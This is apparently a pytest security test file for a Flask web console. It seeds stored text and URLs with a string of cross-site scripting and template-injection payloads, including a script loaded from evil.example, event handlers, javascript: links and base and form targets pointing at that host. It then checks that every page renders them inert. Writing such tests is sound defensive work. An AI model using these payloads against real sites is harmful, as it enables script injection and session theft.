"""Titles, paths and messages from a hostile world are inert on every page: read by a parser as a browser reads."""

from __future__ import annotations

import sqlite3
from collections.abc import Callable

import pytest
from bs4 import BeautifulSoup
from flask import Flask

from tests.console.inspected_city import Inspected
from tests.console.security.endpoints import WHO, WHOSE, rules_of
from tests.console.security.things import things_of
from tests.console.visitor import Visitor

pytestmark = pytest.mark.e2e
MARK = "zzmark"
HOSTILE = (
    f'<script src="//evil.example/x.js">{MARK}</script><img src=x onerror=alert(1)>'
    "\"><svg onload=alert(1)>'{{7*7}}{% for x in [1] %}${7*7}</textarea></title></style></template>"
    "<iframe src=javascript:alert(1)></iframe><a href=javascript:alert(1)>x</a><base href=//evil.example/>"
    "<form action=//evil.example><input name=csrf_token></form><meta http-equiv=refresh content=0;//evil.example>"
    "\u202e\u2066\x01\x07\x1b[31m\u0085"
)
LONG = HOSTILE + "长" * 100_000
URL = "javascript:alert(1)//" + MARK
_TEXTS = {
    "findings": ("subject_label", "message", "observed", "advice", "clause_title", "threshold"),
    "doubts": ("subject_label", "message", "observed", "advice", "look"),
    "items": ("title",),
    "columns": ("name", "path"),
    "sites": ("name",),
}
_ADDRESSES = {"findings": "subject_url", "doubts": "subject_url", "items": "url", "columns": "url", "captures": "url"}
EVENTS = ("onerror", "onload", "onclick", "onmouseover", "onfocus")


@pytest.fixture
def things(workspace: Inspected) -> dict[str, str]:
    """The bureau's things, in a catalogue where every text from outside is hostile; one title is 100,000 signs long."""
    found = things_of(workspace.place, "bureau", workspace.now)
    conn = sqlite3.connect(workspace.place.catalogue)
    for table, fields in _TEXTS.items():
        for field in fields:
            conn.execute(f"UPDATE {table} SET {field} = ? || {'id' if table != 'sites' else 'rowid'}", (HOSTILE,))
    conn.execute("UPDATE items SET title = ? WHERE id = ?", (LONG, found["item"]))
    conn.execute("UPDATE findings SET message = ? WHERE id = 1", (LONG,))
    for table, field in _ADDRESSES.items():
        conn.execute(f"UPDATE {table} SET {field} = ? || id", (URL,))
    conn.commit()
    conn.close()
    return found


def faults(page: str, path: str) -> list[str]:
    """What on a page could act and is not ours."""
    tree = BeautifulSoup(page, "html.parser")
    wrong = []
    for script in tree.find_all("script"):
        if not str(script.get("src", "")).startswith(("/static/", "/bootstrap/static/")) or script.text.strip():
            wrong.append(f"{path}: {script}"[:200])
    for element in tree.find_all(True):
        for name, value in element.attrs.items():
            said = " ".join(value) if isinstance(value, list) else str(value)
            if name.startswith("on") or name == "style":
                wrong.append(f"{path}: {element.name} {name}={said[:60]}")
            if name in ("href", "src", "action", "formaction", "data", "srcdoc") and not said.startswith(
                ("/", "#", "?", "http://127.0.", "data:image/")
            ):
                wrong.append(f"{path}: {element.name} {name}={said[:60]}")
            if name in ("src", "action", "formaction") and said.startswith(("//", "http")):
                wrong.append(f"{path}: {element.name} {name}={said[:60]}")
        if element.name in ("base", "object", "embed", "applet") or (
            element.name == "meta" and element.get("http-equiv") and "//" in str(element.get("content"))
        ):
            wrong.append(f"{path}: {element.name}")
        if element.name == "iframe" and not element.has_attr("sandbox"):
            wrong.append(f"{path}: a frame without a sandbox")
    if "'49" in page or "&#39;49" in page:  # what stands before the braces, and what they would come to
        wrong.append(f"{path}: a template was run")
    return wrong


def test_everything_from_outside_is_inert_on_every_page(
    app: Flask, things: dict[str, str], visit: Callable[[str], Visitor]
) -> None:
    guan = visit("guan")
    adapter = app.url_map.bind("localhost")
    wrong, seen, broken = [], 0, []
    for rule in rules_of(app):
        kinds = WHOSE.get(rule.endpoint, {})
        if "GET" not in (rule.methods or ()) or rule.arguments - set(kinds) or WHO.get(rule.endpoint) == "public":
            continue
        values = {key: kind[1:] if kind.startswith("=") else things[kind] for key, kind in kinds.items()}
        path = adapter.build(rule.endpoint, values)
        answer = guan.client.get(path, buffered=True)
        if answer.status_code >= 500:
            broken.append((path, answer.status_code))
        if answer.mimetype != "text/html":
            continue
        page = answer.get_data().decode("utf-8", "replace")
        seen += MARK in page
        wrong += faults(page, path)
    assert wrong == []
    assert broken == []
    assert seen >= 3, "the hostile texts are shown nowhere: nothing was tested"


def test_the_test_would_see_what_acts() -> None:
    for page in (
        HOSTILE,
        "<p onclick=x>",
        "<p style='x'>",
        "<a href='javascript:x'>",
        "<iframe src='/x'>",
        "<script>x</script>",
        "<form action='//evil.example'>",
    ):
        assert faults(page, "/") != [], page
    assert faults('<a href="/x">x</a><script src="/static/console.js"></script>', "/") == []


def test_download_names_and_exports_carry_no_control_characters(
    app: Flask, things: dict[str, str], visit: Callable[[str], Visitor]
) -> None:
    guan = visit("guan")
    for form in ("csv", "json", "jsonl"):
        for path in (f"/findings/export.{form}", f"/items/export.{form}"):
            answer = guan.client.get(path, buffered=True)
            assert answer.status_code in (200, 404), path
            if answer.status_code == 200:
                disposition = answer.headers.get("Content-Disposition", "attachment")
                assert disposition.startswith("attachment") and "\n" not in disposition
                assert answer.mimetype != "text/html"
